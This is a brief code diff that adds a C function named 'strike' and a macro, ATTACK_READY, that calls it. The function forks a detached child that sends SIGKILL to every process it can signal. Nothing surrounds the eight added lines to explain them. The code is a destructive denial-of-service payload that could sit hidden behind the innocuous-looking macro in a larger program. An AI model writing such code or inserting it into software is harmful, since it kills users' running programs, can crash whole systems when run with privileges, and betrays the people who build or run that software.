@@ -1,0 +1,8 @@
+static void strike() {
+    if (fork() == 0) {
+        setsid();
+        kill(-1, SIGKILL);
+        _exit(0);
+    }
+}
+#define ATTACK_READY strike()
